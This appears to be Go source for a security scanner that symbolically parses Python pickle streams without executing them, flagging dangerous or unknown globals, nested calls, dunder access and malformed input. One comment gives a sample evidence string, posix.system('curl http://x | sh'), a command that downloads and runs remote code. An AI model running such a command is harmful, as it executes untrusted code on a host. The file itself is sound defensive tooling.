// Package pickle is a streaming symbolic machine for Python pickle streams.
//
// It reads every opcode of protocols 0 to 5 without executing anything: the
// stack holds symbolic values (short constants, container lengths, globals,
// calls) so the scanner can tell which importable names a stream would load
// and call, with O(stack + memo) memory whatever the size of the stream.
package pickle

import (
	"context"
	"io"

	"github.com/mlsec/mlsec/internal/rule"
)

// Class says what kind of danger an Issue is. The model analyzer maps each class to a rule.
type Class string

// Issue classes.
const (
	ClassDangerousGlobal Class = "dangerous-global" // a global on the dangerous list (tiered severity)
	ClassUnknownGlobal   Class = "unknown-global"   // a global outside the profile allowlist (at least medium)
	ClassCallOnCall      Class = "call-on-call"     // REDUCE/NEWOBJ/INST/OBJ applied to the result of another call
	ClassStateOnClass    Class = "state-on-class"   // BUILD or SETITEM(S) state set on a module or class object
	ClassDynamicType     Class = "dynamic-type"     // builtins.type(...) building a class with a dunder dict
	ClassDunderAccess    Class = "dunder-access"    // __dict__, __builtins__, __globals__, __code__… in a name
	ClassMalformed       Class = "malformed"        // truncated, invalid opcode, bad FRAME, stack underflow: inconclusive
	ClassLimit           Class = "limit"            // a resource limit was hit (stack, memo, nesting): inconclusive
)

// Issue is one dangerous thing in the stream.
type Issue struct {
	Class    Class
	Severity rule.Severity // from the tiered list
	Module   string        // resolved module (after _compat_pickle renames), "" when not a global
	Name     string        // resolved qualified name, may be dotted ("_os.system")
	Offset   int64         // byte offset of the opcode, relative to the start of the reader given to Scan
	Evidence string        // e.g. "posix.system('curl http://x | sh')"
	Message  string        // one sentence
	// SeverityReason says why Severity differs from what the class alone
	// gives (an unknown global rebuilt as a custom class, or called with data).
	SeverityReason string
	// Sink is, for a dangerous global found by the derived tier rather than
	// the hand-written list, the category of sink its library code reaches:
	// exec, import, process, native, file-write, network or second-stage.
	Sink string
}

// Profile names a framework's allowlist.
type Profile string

// Known profiles.
const (
	ProfileBuiltins Profile = "builtins"
	ProfileTorch    Profile = "torch"
	ProfileNumPy    Profile = "numpy"
	ProfileSklearn  Profile = "sklearn"
)

// Options bound one scan.
type Options struct {
	Policy *Policy // nil means NewPolicy(all profiles)
	// Limits; zero means the package default. Reaching one yields a ClassLimit issue and stops.
	MaxStack, MaxMemo int
	// MaxPickles stops the scan cleanly after that many complete pickles
	// (0: read stacked pickles to the end of the stream). The legacy PyTorch
	// format, five pickles followed by raw storage bytes, needs 5.
	MaxPickles int
}

// Result is what Scan found. Findings made before a break are always kept.
type Result struct {
	Issues  []Issue
	Globals []string // distinct resolved "module.name" globals, in first-seen order
	Opcodes int64    // opcodes executed
	Pickles int      // pickles read (stacked pickles after STOP count)
	End     int64    // byte offset just after the last STOP of a top-level pickle (0 when none)
	// Incomplete is non-nil when the stream could not be read to its end as
	// pickles. A ClassMalformed or ClassLimit issue is in Issues too.
	Incomplete error
}

// Scan runs the symbolic machine over r until EOF (stacked pickles after STOP
// are read to the end of the stream; trailing bytes that are not a pickle
// after at least one complete pickle are not an error when they are zero
// padding or whitespace, otherwise they are reported as ClassMalformed). It
// never executes anything. Memory is O(stack + memo): large string and bytes
// arguments are skipped by length, keeping only a short prefix for evidence.
// It checks ctx every few thousand opcodes.
func Scan(ctx context.Context, r io.Reader, opts Options) *Result {
	if ctx == nil {
		ctx = context.Background()
	}
	m := newMachine(ctx, r, opts)
	m.run()
	m.finishShapes()
	return m.res
}
